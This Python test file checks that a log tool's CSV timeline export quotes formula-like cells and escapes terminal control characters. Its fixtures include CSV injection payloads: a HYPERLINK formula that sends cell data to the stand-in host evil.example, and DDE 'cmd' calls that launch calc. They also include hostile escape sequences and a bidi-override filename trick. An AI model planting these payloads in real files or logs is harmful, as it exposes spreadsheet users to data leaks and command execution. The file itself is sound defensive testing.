"""CSV formula injection: no cell of a CSV the project writes starts like a spreadsheet formula (issue 18, 7)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from tests.archives import make_zip
from workbench.cli import main
from workbench.core.spreadsheet import FORMULA_STARTS, spreadsheet_cell, write_csv

#: Messages a hostile or unlucky log can carry, each a classic payload of its kind.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
]


def _setupact(messages: list[str]) -> bytes:
    lines = [f"2021-05-25 09:15:{30 + i:02d}, Error                 SP     {m}" for i, m in enumerate(messages)]
    return ("\r\n".join(lines) + "\r\n").encode("utf-8")


def test_cells_that_start_like_formulas_get_a_quote() -> None:
    for value in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r\n=1", "＠x"):
        assert spreadsheet_cell(value) == "'" + value
    for value in ("0xC1900101", "Setup", "", " =1 (a space first is text)", "a=b", "'quoted"):
        assert spreadsheet_cell(value) == value
    # numbers stay numbers: a negative number is not text a spreadsheet could run
    assert spreadsheet_cell(-5) == -5 and spreadsheet_cell(None) is None


def test_write_csv_escapes_header_and_every_cell() -> None:
    out = io.StringIO()
    n = write_csv(out, ["=field", "b"], [{"=field": "=x", "b": "-y"}, {"=field": "ok", "b": 3}])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert n == 2
    assert rows == [["'=field", "b"], ["'=x", "'-y"], ["ok", "3"]]


def test_timeline_csv_escapes_messages_components_and_paths(tmp_path: Path,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    # a folder named like a formula, so the path column starts with one too
    src = make_zip(tmp_path / "c.zip", {"=cmd/Panther/setupact.log": _setupact(PAYLOADS)})
    code = main(["timeline", str(src), "--format", "csv", "--quiet"])
    out, _ = capsys.readouterr()
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == len(PAYLOADS)
    cells = [c for r in rows for c in r.values() if c]
    assert not [c for c in cells if c[:1] in FORMULA_STARTS]
    # nothing is lost: the quote is the only change
    assert [r["message"] for r in rows] == ["'" + m for m in PAYLOADS]
    assert {r["file"] for r in rows} == {"'=cmd/Panther/setupact.log"}
    # the JSON lines output is data, not a spreadsheet: it carries the messages unchanged
    main(["timeline", str(src), "--quiet"])
    out, _ = capsys.readouterr()
    assert all(m in out.replace('\\"', '"') for m in PAYLOADS)


#: What a hostile log line can carry to a terminal: a title change (OSC … BEL), colours, a screen clear, a C1
#: CSI, a bidi override, DEL and a lone CR (which rewrites the line shown).
CONTROLS = [
    "title \x1b]0;pwned\x07 red \x1b[31mRED\x1b[0m and \x1b[2J clear",
    "bidi \u202egpj.exe\u202c and C1 \x9b31m done\x7f",
    "progress 10%\rprogress 100% (a lone CR)",
    "\x1b[31m=HYPERLINK(\"http://evil.example\")",
]
_RAW = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]|\r(?!\n)")


def test_cells_carry_no_raw_control_character() -> None:
    assert spreadsheet_cell("a\x1b[2Jb\x07") == "a\\x1b[2Jb\\x07"
    assert spreadsheet_cell("\u202egpj.exe") == "\\u202egpj.exe"
    assert spreadsheet_cell("\x9b31m") == "\\x9b31m"
    # tab, LF and CRLF stay as the log had them; a cell that starts with one is still quoted
    assert spreadsheet_cell("line one\r\nline two\tcolumn") == "line one\r\nline two\tcolumn"
    assert spreadsheet_cell("\tTabbed start") == "'\tTabbed start"
    assert spreadsheet_cell("\r\n=1") == "'\r\n=1"
    # a lone CR is escaped, so the cell starts with text and needs no quote
    assert spreadsheet_cell("\r=1") == "\\x0d=1"
    # an escape sequence first hides no formula: the text after it is not at the cell's start
    assert spreadsheet_cell("\x1b=1") == "\\x1b=1"


def test_timeline_csv_on_a_pipe_carries_no_raw_control(tmp_path: Path,
                                                       capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    """``timeline --format csv | head``: stdout is a pipe, not a terminal, so the cells themselves must be
    safe. Paths and components carry them too (a member named with an ESC)."""
    src = make_zip(tmp_path / "c.zip", {"Panther/setupact.log": _setupact(CONTROLS),
                                        "x\x1b[2J/Panther/setuperr.log": _setupact(CONTROLS[:1])})
    assert main(["timeline", str(src), "--format", "csv", "--quiet"]) in (0, 1)
    out = capsysbinary.readouterr().out.decode("utf-8")
    assert not _RAW.findall(out), _RAW.findall(out)
    rows = list(csv.DictReader(io.StringIO(out)))
    messages = sorted(r["message"] for r in rows)
    assert "title \\x1b]0;pwned\\x07 red \\x1b[31mRED\\x1b[0m and \\x1b[2J clear" in messages
    assert "bidi \\u202egpj.exe\\u202c and C1 \\x9b31m done\\x7f" in messages
    assert "progress 10%\\x0dprogress 100% (a lone CR)" in messages
    assert '\\x1b[31m=HYPERLINK("http://evil.example")' in messages
    assert all(c[:1] not in FORMULA_STARTS for r in rows for c in r.values() if c)
